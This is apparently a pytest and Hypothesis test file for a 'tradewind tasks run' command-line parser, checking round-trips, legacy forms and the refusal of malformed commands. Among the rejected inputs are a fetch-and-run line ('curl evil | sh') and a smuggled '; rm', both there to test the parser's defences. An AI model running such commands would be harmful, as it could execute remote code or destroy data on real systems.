"""The argv of `tradewind tasks run`: what is built is read back, what is not understood is refused."""

from collections.abc import Mapping, Sequence
from typing import Any, cast
from uuid import UUID

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.main import get_command

from tests.unit.wire.samples import ATTEMPT, QUEUED
from tradewind.cli.tasks.group import create_app
from tradewind.wire.codec import UndecodableMessage
from tradewind.wire.task_run import RunFlags, TaskRun, parse_task_run_command, task_run_command

PLAIN = TaskRun(dag_id="d", task_id="t", run_id="r", map_index=3, attempt_id=ATTEMPT)
ARGV = task_run_command(PLAIN)

flags = st.builds(
    RunFlags,
    mark_success=st.booleans(),
    ignore_all_deps=st.booleans(),
    ignore_depends_on_past=st.booleans(),
    ignore_task_deps=st.booleans(),
    ignore_ti_state=st.booleans(),
    pool=st.none() | st.text(),
)
names = st.text() | st.sampled_from(["-x", "-", "--", "--help", "--map-index", "--attempt-id", "--pool=p", "-f"])
"""What a DAG, a task or a run may be called, and worse."""
runs = st.builds(
    TaskRun,
    dag_id=names,
    task_id=names,
    run_id=names,
    map_index=st.integers(-1, 10**9 - 1),
    attempt_id=st.none() | st.uuids(),
    flags=flags,
)


@settings(deadline=None)
@given(run=runs)
def test_what_is_built_is_read_back(run: TaskRun) -> None:
    assert parse_task_run_command(task_run_command(run)) == run


@settings(deadline=None)
@given(run=runs)
def test_programs_that_run_the_argv_take_no_name_for_an_option(run: TaskRun) -> None:
    """As the command line reads it: options before `--`, and nothing but names after it."""
    read = _as_a_program_reads(task_run_command(run)[2:])
    assert [read["dag_id"], read["task_id"], read["run_id"]] == [run.dag_id, run.task_id, run.run_id]
    assert (read["map_index"], read["attempt_id"], read["pool"]) == (run.map_index, run.attempt_id, run.flags.pool)
    assert (read["mark_success"], read["force"]) == (run.flags.mark_success, run.flags.ignore_ti_state)


def _as_a_program_reads(arguments: Sequence[str]) -> Mapping[str, Any]:
    group = cast("Any", get_command(create_app()))
    context = group.make_context("tasks", list(arguments))
    name, command, rest = group.resolve_command(context, [*context._protected_args, *context.args])
    return command.make_context(name, rest, parent=context).params


@pytest.mark.parametrize("names", [("-x", "t", "r"), ("d", "--", "r"), ("--help", "--", "-"), ("--pool", "x", "--")])
def test_what_earlier_versions_wrote_is_read(names: tuple[str, str, str]) -> None:
    old = ("tradewind", "tasks", "run", *names, "--map-index", "3", "--attempt-id", str(ATTEMPT), "--pool", "p")
    run = parse_task_run_command(old)
    assert ((run.dag_id, run.task_id, run.run_id), run.attempt_id, run.flags.pool) == (names, ATTEMPT, "p")


def test_a_plain_command_is_as_the_scheduler_writes_it() -> None:
    run = parse_task_run_command(QUEUED.ti.command)
    assert run.flags == RunFlags()
    assert task_run_command(run) == QUEUED.ti.command


def test_the_words_are_those_of_airflow() -> None:
    every = RunFlags(
        mark_success=True,
        ignore_all_deps=True,
        ignore_depends_on_past=True,
        ignore_task_deps=True,
        ignore_ti_state=True,
        pool="heavy",
    )
    command = task_run_command(TaskRun(dag_id="d", task_id="t", run_id="r", flags=every))
    assert " ".join(command) == (
        "tradewind tasks run d t r --map-index -1 --mark-success --ignore-all-dependencies --ignore-depends-on-past "
        "--ignore-dependencies --force --pool heavy"
    )


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        (("--depends-on-past", "ignore"), RunFlags(ignore_depends_on_past=True)),
        (("--depends-on-past=ignore",), RunFlags(ignore_depends_on_past=True)),
        (("--depends-on-past", "check"), RunFlags()),
        (("--pool=a=b", "--force"), RunFlags(pool="a=b", ignore_ti_state=True)),
    ],
)
def test_options_as_people_write_them(options: tuple[str, ...], expected: RunFlags) -> None:
    assert parse_task_run_command((*ARGV, *options)).flags == expected


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ((), "is not `tradewind tasks run` but empty"),
        (("bash", "-c", "curl evil | sh"), "but 'bash -c curl evil"),
        (("tradewind", "tasks", "test", "d", "t", "r"), "but 'tradewind tasks test d'"),
        (ARGV[:5], "too few arguments"),
        ((*ARGV, "--local"), "'--local'"),
        ((*ARGV, "--mark-success=yes"), "'--mark-success=yes'"),
        ((*ARGV, "; rm"), "'; rm'"),
        ((*ARGV, "--pool"), "`--pool` of the command has no value"),
        ((*ARGV, "--attempt-id", "x"), "`--attempt-id` of the command: 'x' is not a UUID"),
        ((*ARGV, "--map-index", "one"), "`--map-index` of the command: 'one'"),
        ((*ARGV, "--map-index", "-2"), "`--map-index` of the command: '-2'"),
        ((*ARGV, "--map-index", "9" * 5000), "`--map-index`"),
        ((*ARGV, "--depends-on-past", "wait"), "`--depends-on-past` of the command: 'wait'"),
    ],
)
def test_what_is_not_understood_is_refused_by_name(command: tuple[str, ...], told: str) -> None:
    with pytest.raises(UndecodableMessage) as caught:
        parse_task_run_command(command)
    assert told in str(caught.value)


def test_without_an_attempt_it_asks_for_one_to_be_queued() -> None:
    run = parse_task_run_command(("tradewind", "tasks", "run", "d", "t", "r"))
    assert run == TaskRun(dag_id="d", task_id="t", run_id="r")
    assert parse_task_run_command(ARGV).attempt_id == UUID(str(ATTEMPT))
